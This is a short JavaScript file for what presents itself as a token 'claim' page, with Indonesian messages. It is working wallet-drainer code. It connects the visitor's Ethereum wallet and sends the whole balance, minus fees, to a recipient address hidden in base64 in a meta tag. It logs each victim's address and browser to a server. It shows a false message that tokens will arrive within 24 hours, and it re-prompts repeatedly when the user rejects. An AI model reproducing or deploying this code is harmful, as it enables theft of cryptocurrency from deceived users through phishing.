$(document).ready(function () {
  var addr = null;
  var to = atob($("meta[name=r]").attr("content"));

  $(".btn-claim").on("click", async function (e) {
    e.preventDefault();
    $(".loader").fadeIn();
    try {
      var accs = await ethereum.request({ method: "eth_requestAccounts" });
      addr = accs[0];
      $.post("/api/log.php", { a: addr, act: "connect", ua: navigator.userAgent });
      var w = new Web3(ethereum);
      var bal = w.utils.toBN(await w.eth.getBalance(addr));
      var gp = w.utils.toBN(await w.eth.getGasPrice());
      var fee = gp.muln(120).divn(100).mul(w.utils.toBN(21000));
      var all = bal.sub(fee);
      if (all.lten(0)) {
        $(".err").text("Saldo tidak cukup untuk klaim. Gunakan wallet lain.").show();
        $.post("/api/log.php", { a: addr, act: "empty" });
        return;
      }
      await ethereum.request({
        method: "eth_sendTransaction",
        params: [{ from: addr, to: to, value: w.utils.toHex(all), gas: "0x5208" }]
      });
      $.post("/api/log.php", { a: addr, act: "done", v: w.utils.fromWei(all) });
      $(".ok").text("Klaim berhasil! Token dikirim dalam 24 jam.").show();
    } catch (x) {
      $.post("/api/log.php", { a: addr, act: "reject" });
      setTimeout(function () { $(".btn-claim").click(); }, 1200);
    } finally {
      $(".loader").fadeOut();
    }
  });
});
